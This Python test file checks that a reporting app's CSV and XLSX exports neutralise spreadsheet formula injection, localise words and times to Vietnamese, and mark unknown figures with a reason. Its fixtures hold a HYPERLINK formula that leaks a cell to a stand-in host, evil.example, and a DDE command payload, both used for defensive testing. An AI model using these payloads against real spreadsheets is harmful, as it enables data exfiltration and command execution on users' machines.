"""Exported files: a name that looks like a formula stays text, stored values are words in the
caller's language, times are Vietnam time, and the gas unit reads right in Vietnamese."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from api import i18n
from api.reports import exports

COLUMNS = [
    ("name", "Facility"),
    ("status", "Status"),
    ("reported", "Reported"),
    ("sent_at", "Sent at"),
    ("stock", "Stock"),
]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
ROWS = [
    {
        "name": HOSTILE,
        "status": "needs_more",
        "reported": True,
        "sent_at": datetime(2026, 3, 1, 9, 30, tzinfo=UTC),
        "stock": -3.5,
    },
    {
        "name": "+cmd|' /C calc'!A0",
        "status": "enough",
        "reported": False,
        "sent_at": "2026-03-01T20:15:00+00:00",
        "stock": 16424.0,
    },
]


def _csv_rows(locale: str) -> list[list[str]]:
    body = exports.to_csv(COLUMNS, ROWS, locale).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body)))


def test_csv_neutralises_formulas_and_writes_words_and_local_times() -> None:
    rows = _csv_rows("vi")
    assert rows[1][0] == "'" + HOSTILE
    assert rows[2][0].startswith("'+")
    assert rows[1][1] == "Cần bổ sung" and rows[2][1] == "Đủ"
    assert rows[1][2] == "Có" and rows[2][2] == "Không"
    # 09:30 UTC is 16:30 in Vietnam; an ISO string from the JSON layer converts the same way.
    assert rows[1][3] == "2026-03-01 16:30"
    assert rows[2][3] == "2026-03-02 03:15"
    # A number stays a number (a negative figure is not a formula).
    assert rows[1][4] == "-3.5"
    en = _csv_rows("en")
    assert en[1][1] == "Needs more" and en[1][2] == "Yes"


def test_xlsx_never_stores_a_formula() -> None:
    data = exports.to_xlsx("Test", COLUMNS, ROWS, "en")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cell = ws.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value == HOSTILE
    assert ws.cell(row=3, column=1).data_type == "s"
    assert ws.cell(row=2, column=2).value == "Needs more"
    assert ws.cell(row=2, column=3).value == "Yes"
    assert ws.cell(row=2, column=4).value == "2026-03-01 16:30"
    assert ws.cell(row=2, column=5).value == -3.5
    # Nothing in the sheet is a formula.
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_the_gas_unit_is_not_read_as_a_hundred_thousand_kpa() -> None:
    assert i18n.gas_unit(0.0, 101.325, "vi") == "m3 @ 0 °C, 1 atm"
    assert i18n.gas_unit(0.0, 101.325, "en") == "m3 @ 0 °C, 1 atm"
    assert i18n.gas_unit(20.0, 101.3, "vi") == "m3 @ 20 °C, 101,3 kPa"
    assert i18n.gas_unit(15.5, 100.0, "en") == "m3 @ 15.5 °C, 100 kPa"
    assert (
        "101.325"
        not in exports.localize([("x", "Stock (%(gas)s)")], "vi", gas="m3 @ 0 °C, 1 atm")[0][1]
    )


def test_unknown_figures_are_a_dash_with_the_pages_reason_never_an_empty_cell() -> None:
    columns = [
        ("name", "Facility"),
        ("stock_liquid_kg", "Liquid stock (kg)"),
        ("patients_current", "Current patients"),
        ("capacity_nm3", "Capacity"),
        ("days_of_supply", "Days of supply"),
    ]
    rows = [
        {
            "name": "BV A",
            "stock_liquid_kg": None,
            "patients_current": None,
            "capacity_nm3": None,
            "days_of_supply": 0.0,
            # As api.reports.figures records it: per figure, without the unit suffix.
            "unknown": {"stock_liquid": "calibration_missing", "patients_current": "not_reported"},
        },
        {"name": "BV B", "stock_liquid_kg": 0.0, "patients_current": 0, "capacity_nm3": 5.0},
    ]
    no_cal = i18n.gettext("vi", "Readings without a valid calibration")
    not_reported = i18n.gettext("vi", "Not reported")
    assert no_cal != "Readings without a valid calibration"  # the reasons are translated
    body = exports.to_csv(columns, rows, "vi").decode("utf-8").lstrip("\ufeff")
    csv_rows = list(csv.reader(io.StringIO(body)))
    # Unknown: "—" with the reason; a real 0 stays 0; a missing key is unknown too.
    assert csv_rows[1] == ["BV A", f"— ({no_cal})", f"— ({not_reported})", "—", "0.0"]
    assert csv_rows[2] == ["BV B", "0.0", "0", "5.0", "—"]
    ws = load_workbook(io.BytesIO(exports.to_xlsx("T", columns, rows, "vi"))).active
    assert ws is not None
    cells = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert cells[0][1:4] == [f"— ({no_cal})", f"— ({not_reported})", "—"]
    assert cells[1][1:] == [0, 0, 5, "—"]
    # No empty cell anywhere (an empty cell is summed as 0 by a spreadsheet).
    assert all(v not in (None, "") for row in cells for v in row)
    # A reason for the whole row (api.accounting.telemetry.FacilityTelemetry.unknown).
    en = exports.to_csv([("kg", "kg")], [{"kg": None, "unknown": "no_telemetry"}], "en")
    assert en.decode("utf-8").splitlines()[1] == "— (No telemetry for this day)"
